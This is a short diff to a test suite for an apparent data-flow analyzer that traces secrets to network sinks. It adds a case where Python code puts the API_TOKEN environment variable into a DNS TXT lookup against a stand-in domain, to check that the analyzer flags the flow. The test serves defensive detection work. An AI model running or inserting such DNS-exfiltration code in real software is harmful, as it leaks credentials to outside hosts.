@@ -62,6 +62,14 @@ describe("what is gathered piece by piece is followed to where it goes", () => {
       ["import os, socket", 'socket.gethostbyname(os.environ["API_TOKEN"] + ".drop.test")'],
       ["secret:own-key API_TOKEN -> network:dns *.drop.test"],
     ],
+    [
+      "a secret in a name that a resolver made for it looks up",
+      [
+        "import os, dns.resolver",
+        'dns.resolver.Resolver().resolve(os.environ["API_TOKEN"] + ".drop.test", "TXT")',
+      ],
+      ["secret:own-key API_TOKEN -> network:dns *.drop.test"],
+    ],
   ])("%s", (_, lines, expected) => {
     expect(flows("python", lines)).toStrictEqual(expected);
   });
